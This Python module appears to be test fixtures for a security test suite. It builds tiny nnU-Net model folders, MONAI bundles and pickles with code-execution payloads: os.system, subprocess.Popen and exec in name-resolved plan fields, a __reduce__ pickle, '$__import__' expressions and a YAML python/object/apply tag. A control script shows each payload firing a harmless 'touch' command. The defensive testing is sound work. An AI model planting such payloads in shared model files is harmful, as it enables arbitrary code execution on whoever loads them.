"""Hostile model folders for the hostile suite: a tiny nnU-Net trained-model folder written by hand (no experiment
planning: the plans nnU-Net's planner writes, shrunk to one channel and two stages), its payload variants (one per
field nnU-Net resolves by name), MONAI bundles with ``_target_``, ``$``, ``@``, ``%`` and YAML-tag payloads,
pickles whose ``__reduce__`` runs a command, and the script that shows each payload kind is live."""

from __future__ import annotations

import copy
import io
import json
import os
import pathlib
import shutil
from collections.abc import Callable
from typing import Any, NamedTuple

TRAINED = "nnUNetTrainer__nnUNetPlans__3d_fullres"
SEQUENCE = "T1c"

_CONFIGURATION: dict[str, Any] = {
    "data_identifier": "nnUNetPlans_3d_fullres",
    "preprocessor_name": "DefaultPreprocessor",
    "batch_size": 2,
    "patch_size": [8, 8, 8],
    "median_image_size_in_voxels": [8.0, 12.0, 12.0],
    "spacing": [2.0, 1.0, 1.0],
    "normalization_schemes": ["ZScoreNormalization"],
    "use_mask_for_norm": [False],
    "resampling_fn_data": "resample_data_or_seg_to_shape",
    "resampling_fn_seg": "resample_data_or_seg_to_shape",
    "resampling_fn_data_kwargs": {"is_seg": False, "order": 3, "order_z": 0, "force_separate_z": None},
    "resampling_fn_seg_kwargs": {"is_seg": True, "order": 1, "order_z": 0, "force_separate_z": None},
    "resampling_fn_probabilities": "resample_data_or_seg_to_shape",
    "resampling_fn_probabilities_kwargs": {"is_seg": False, "order": 1, "order_z": 0, "force_separate_z": None},
    "architecture": {
        "network_class_name": "dynamic_network_architectures.architectures.unet.PlainConvUNet",
        "arch_kwargs": {
            "n_stages": 2,
            "features_per_stage": [2, 4],
            "conv_op": "torch.nn.modules.conv.Conv3d",
            "kernel_sizes": [[3, 3, 3], [3, 3, 3]],
            "strides": [[1, 1, 1], [2, 2, 2]],
            "n_conv_per_stage": [1, 1],
            "n_conv_per_stage_decoder": [1],
            "conv_bias": True,
            "norm_op": "torch.nn.modules.instancenorm.InstanceNorm3d",
            "norm_op_kwargs": {"eps": 1e-05, "affine": True},
            "dropout_op": None,
            "dropout_op_kwargs": None,
            "nonlin": "torch.nn.LeakyReLU",
            "nonlin_kwargs": {"inplace": True},
        },
        "_kw_requires_import": ["conv_op", "norm_op", "dropout_op", "nonlin"],
    },
    "batch_dice": False,
}


def nnunetPlans() -> dict[str, Any]:
    """A ``plans.json`` as nnU-Net's planner writes it (one 3d_fullres configuration, a two-stage PlainConvUNet)."""
    return {
        "dataset_name": "Dataset992_Hostile",
        "plans_name": "nnUNetPlans",
        "original_median_spacing_after_transp": [2.0, 1.0, 1.0],
        "original_median_shape_after_transp": [8, 12, 12],
        "image_reader_writer": "SimpleITKIO",
        "transpose_forward": [0, 1, 2],
        "transpose_backward": [0, 1, 2],
        "configurations": {"3d_fullres": copy.deepcopy(_CONFIGURATION)},
        "experiment_planner_used": "ExperimentPlanner",
        "label_manager": "LabelManager",
        "foreground_intensity_properties_per_channel": {
            "0": {
                "max": 300.0,
                "mean": 150.0,
                "median": 150.0,
                "min": 10.0,
                "percentile_00_5": 20.0,
                "percentile_99_5": 290.0,
                "std": 40.0,
            }
        },
    }


def datasetJson() -> dict[str, Any]:
    return {
        "channel_names": {"0": SEQUENCE},
        "labels": {"background": 0, "tumour": 1},
        "numTraining": 3,
        "file_ending": ".nii.gz",
    }


def nnunetCheckpoint(plans: dict[str, Any], dataset: dict[str, Any], trainerName: str = "nnUNetTrainer") -> dict:
    """A checkpoint with nnU-Net's keys and real weights of the network the plans describe (plain values only, so
    it loads with ``weights_only``)."""
    import torch

    torch.manual_seed(0)
    network = buildNetwork(plans, len(dataset["labels"]))
    return {
        "network_weights": network.state_dict(),
        "optimizer_state": {},
        "grad_scaler_state": None,
        "logging": {"mean_fg_dice": [0.5], "ema_fg_dice": [0.5]},
        "_best_ema": 0.5,
        "current_epoch": 1,
        "init_args": {"configuration": "3d_fullres", "fold": 0},
        "trainer_name": trainerName,
        "inference_allowed_mirroring_axes": (0, 1, 2),
    }


def buildNetwork(plans: dict[str, Any], classes: int):
    """The network of the plans' 3d_fullres configuration, built by nnU-Net's own ``get_network_from_plans`` (what
    its trainer's ``build_network_architecture`` calls: it imports every name ``_kw_requires_import`` lists)."""
    from nnunetv2.utilities.get_network_from_plans import get_network_from_plans

    architecture = plans["configurations"]["3d_fullres"]["architecture"]
    return get_network_from_plans(
        architecture["network_class_name"],
        architecture["arch_kwargs"],
        architecture["_kw_requires_import"],
        1,
        classes,
        deep_supervision=False,
    )


def writeNnunetModel(parent: pathlib.Path, checkpoint: bytes, plans=None, dataset=None) -> pathlib.Path:
    """``parent/<Trainer__Plans__configuration>`` with ``plans.json``, ``dataset.json`` and ``fold_0``."""
    folder = parent / TRAINED
    (folder / "fold_0").mkdir(parents=True)
    (folder / "plans.json").write_text(json.dumps(plans or nnunetPlans(), indent=1), encoding="utf-8")
    (folder / "dataset.json").write_text(json.dumps(dataset or datasetJson(), indent=1), encoding="utf-8")
    (folder / "fold_0" / "checkpoint_final.pth").write_bytes(checkpoint)
    return folder


def torchBytes(value: Any) -> bytes:
    import torch

    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


def poisonedCopy(clean: pathlib.Path, parent: pathlib.Path, change: Callable[[dict, dict], None]) -> pathlib.Path:
    """A copy of the clean model folder under ``parent`` whose plans and dataset ``change(plans, dataset)`` edited."""
    folder = parent / clean.name
    shutil.copytree(clean, folder)
    plans = json.loads((folder / "plans.json").read_text(encoding="utf-8"))
    dataset = json.loads((folder / "dataset.json").read_text(encoding="utf-8"))
    change(plans, dataset)
    (folder / "plans.json").write_text(json.dumps(plans), encoding="utf-8")
    (folder / "dataset.json").write_text(json.dumps(dataset), encoding="utf-8")
    return folder


class PlansPayload(NamedTuple):
    """One hostile edit of an nnU-Net model: ``change(plans, dataset, command)``; the field and value it names."""

    name: str
    change: Callable[[dict, dict, str], None]
    file: str
    field: str
    value: str


def _architecture(plans: dict) -> dict:
    return plans["configurations"]["3d_fullres"]["architecture"]


def _op(field: str, path: str, keyword: str) -> Callable[[dict, dict, str], None]:
    def change(plans, _dataset, command):
        arguments = _architecture(plans)["arch_kwargs"]
        arguments[field] = path
        arguments[f"{field}_kwargs"] = {keyword: command}

    return change


def _set(key: str, value: Any, top: bool = False) -> Callable[[dict, dict, str], None]:
    def change(plans, _dataset, _command):
        (plans if top else plans["configurations"]["3d_fullres"])[key] = value

    return change


def _extraImport(plans, _dataset, _command):
    _architecture(plans)["arch_kwargs"]["payload"] = "os.system"
    _architecture(plans)["_kw_requires_import"].append("payload")


def _nestedPath(plans, _dataset, _command):
    _architecture(plans)["arch_kwargs"]["stem"] = {"op": "subprocess.Popen"}


def _block(plans, _dataset, command):
    _architecture(plans)["arch_kwargs"]["block"] = "builtins.exec"


def _legacy(plans, _dataset, _command):
    configuration = plans["configurations"]["3d_fullres"]
    configuration.pop("architecture")
    configuration["UNet_class_name"] = "posix.system"


def _network(plans, _dataset, _command):
    _architecture(plans)["network_class_name"] = "importlib.import_module"


def _readerInDataset(_plans, dataset, _command):
    dataset["overwrite_image_reader_writer"] = "os.system"


_C = "configurations.3d_fullres."
_A = _C + "architecture."

#: Every field nnU-Net resolves by name, each holding a callable that would run a command.
PLANS_PAYLOADS = (
    PlansPayload("conv_op", _op("conv_op", "os.system", "command"), "plans", _A + "arch_kwargs.conv_op", "os.system"),
    PlansPayload(
        "norm_op", _op("norm_op", "subprocess.Popen", "args"), "plans", _A + "arch_kwargs.norm_op", "subprocess.Popen"
    ),
    PlansPayload(
        "dropout_op",
        _op("dropout_op", "posix.system", "command"),
        "plans",
        _A + "arch_kwargs.dropout_op",
        "posix.system",
    ),
    PlansPayload(
        "nonlin", _op("nonlin", "builtins.exec", "source"), "plans", _A + "arch_kwargs.nonlin", "builtins.exec"
    ),
    PlansPayload("block", _block, "plans", _A + "arch_kwargs.block", "builtins.exec"),
    PlansPayload("network", _network, "plans", _A + "network_class_name", "importlib.import_module"),
    PlansPayload("importList", _extraImport, "plans", _A + "_kw_requires_import", "payload"),
    PlansPayload("nestedPath", _nestedPath, "plans", _A + "arch_kwargs.stem.op", "subprocess.Popen"),
    PlansPayload(
        "preprocessor", _set("preprocessor_name", "os.system"), "plans", _C + "preprocessor_name", "os.system"
    ),
    PlansPayload(
        "normalization",
        _set("normalization_schemes", ["ZScoreNormalization", "load_pickle"]),
        "plans",
        _C + "normalization_schemes[1]",
        "load_pickle",
    ),
    PlansPayload(
        "resamplingData", _set("resampling_fn_data", "save_json"), "plans", _C + "resampling_fn_data", "save_json"
    ),
    PlansPayload(
        "resamplingSeg", _set("resampling_fn_seg", "os.system"), "plans", _C + "resampling_fn_seg", "os.system"
    ),
    PlansPayload(
        "resamplingProbabilities",
        _set("resampling_fn_probabilities", "exec"),
        "plans",
        _C + "resampling_fn_probabilities",
        "exec",
    ),
    PlansPayload("labelManager", _set("label_manager", "os.system", top=True), "plans", "label_manager", "os.system"),
    PlansPayload(
        "readerWriter",
        _set("image_reader_writer", "subprocess.Popen", top=True),
        "plans",
        "image_reader_writer",
        "subprocess.Popen",
    ),
    PlansPayload("legacyNetwork", _legacy, "plans", _C + "UNet_class_name", "posix.system"),
    PlansPayload("datasetReader", _readerInDataset, "dataset", "overwrite_image_reader_writer", "os.system"),
)


class ReducePayload:
    """Unpickling this runs ``os.system(command)`` (what a hostile checkpoint or classifier file does)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def touch(marker: pathlib.Path) -> str:
    return f"touch {marker}"


BUNDLE_METADATA = {
    "version": "0.1.0",
    "network_data_format": {
        "inputs": {"image": {"channel_def": {"0": SEQUENCE}}},
        "outputs": {"pred": {"channel_def": {"0": "background", "1": "tumour"}}},
    },
}
BUNDLE_NETWORK = {
    "_target_": "UNet",
    "spatial_dims": 3,
    "in_channels": 1,
    "out_channels": 2,
    "channels": [4, 8],
    "strides": [2],
}


def writeBundle(folder: pathlib.Path, inference: dict | str, configName: str = "inference.json") -> pathlib.Path:
    """A MONAI bundle folder (configs/metadata.json, configs/<configName>, models/model.pt placeholder weights)."""
    (folder / "configs").mkdir(parents=True)
    (folder / "models").mkdir()
    text = inference if isinstance(inference, str) else json.dumps(inference, indent=1)
    (folder / "configs" / configName).write_text(text, encoding="utf-8")
    (folder / "configs" / "metadata.json").write_text(json.dumps(BUNDLE_METADATA), encoding="utf-8")
    (folder / "models" / "model.pt").write_bytes(b"weights are never read before the configs are checked")
    return folder


def bundlePayloads(command: str) -> list[tuple[str, dict | str, str, str, str]]:
    """(name, inference config or YAML text, config file name, field, value) of each hostile bundle."""
    expression = f"$__import__('os').system('{command}')"
    return [
        (
            "target",
            {"network_def": {**BUNDLE_NETWORK, "_target_": "os.system", "command": command}},
            "inference.json",
            "network_def._target_",
            "os.system",
        ),
        (
            "expression",
            {"network_def": {**BUNDLE_NETWORK, "act": expression}},
            "inference.json",
            "network_def.act",
            expression,
        ),
        (
            "reference",
            {"payload": expression, "network_def": {**BUNDLE_NETWORK, "act": "@payload"}},
            "inference.json",
            "network_def.act",
            "@payload",
        ),
        (
            "macro",
            {"network_def": {**BUNDLE_NETWORK, "act": "%configs/other.json#payload"}},
            "inference.json",
            "network_def.act",
            "%configs/other.json#payload",
        ),
        (
            "yamlTag",
            f"network_def:\n  _target_: UNet\n  act: !!python/object/apply:os.system ['{command}']\n",
            "inference.yaml",
            "network_def.act",
            "!!python/object/apply:os.system",
        ),
    ]


#: Run by the control test in a fresh interpreter: each payload kind, handed to the library it targets, runs its
#: command (argv: the folder where each kind touches its marker, the nnU-Net plans file).
CONTROL_SCRIPT = r"""
import json, os, pathlib, pickle, sys
folder, plansPath = pathlib.Path(sys.argv[1]), sys.argv[2]

def attempt(kind, action):
    try:
        action()
    except BaseException:
        pass  # the payload runs before the library notices the object is no layer, config or weight

def nnunet():
    from modelPayloads import buildNetwork
    buildNetwork(json.loads(pathlib.Path(plansPath).read_text()), 2)

def monai():
    from monai.bundle import ConfigParser
    command = f"touch {folder / 'monai'}"
    ConfigParser({"network_def": {"_target_": "os.system", "command": command}}).get_parsed_content("network_def")

def torchPickle():
    import torch
    torch.load(folder / "checkpoint.pth", weights_only=False)

def skopsPickle():
    with open(folder / "model.skops", "rb") as handle:
        pickle.load(handle)

def yamlTag():
    import yaml
    yaml.unsafe_load(f"x: !!python/object/apply:os.system ['touch {folder / 'yaml'}']")

for kind, action in [("nnunet", nnunet), ("monai", monai), ("torch", torchPickle), ("skops", skopsPickle),
                     ("yaml", yamlTag)]:
    attempt(kind, action)
"""
